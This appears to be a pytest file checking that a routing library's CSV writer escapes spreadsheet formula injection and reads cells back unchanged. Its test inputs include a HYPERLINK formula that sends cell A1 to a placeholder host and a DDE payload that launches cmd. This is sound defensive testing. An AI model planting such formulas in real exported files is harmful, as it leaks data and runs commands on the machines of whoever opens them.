"""Texts that a spreadsheet would compute: written as texts, and read back as they were."""

import csv
import io

import pytest

from chainroute import Problem, Solution
from chainroute.formats import parse_one, parse_solution
from chainroute.formats.tables import grids, routes, writer

EVIL = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "@SUM(1+1)",
    "-cmd|' /C calc'!A0",
    "+1+1",
    "'=1+1",
    "''=x",
    "-",
    "=",
    "+49 30",
]
PLAIN = ["-5", "+7", "-1.5e3", "'quoted'", "a=b", "", "O'Hara", "'"]


@pytest.mark.parametrize("text", [*EVIL, *PLAIN])
def test_a_cell_comes_back_as_it_was(text):
    data = grids.write_csv([grids.Sheet([["name", text], [text, "b"]])])
    rows = grids.read_csv(data.decode(), ",").rows
    assert rows == [["name", text or None], [text or None, "b"]]
    seen = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert (f"'{text}" in seen) == (text in EVIL)


def test_names_of_problems_and_plans_are_texts():
    p = Problem(
        capacity=9,
        delivery=[1] * len(EVIL),
        coords=[(i, 0) for i in range(len(EVIL) + 1)],
        names=["D", *EVIL],
    )
    s = Solution.of(p, [(0, list(p.customers))])
    problem, plan = writer.write(p), routes.write(s)
    for data in (problem, plan):
        for row in csv.reader(io.StringIO(data.decode())):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "@", "-")]
    assert parse_one(problem, "x").names == p.names
    assert parse_solution(plan, p, "x").routes == s.routes
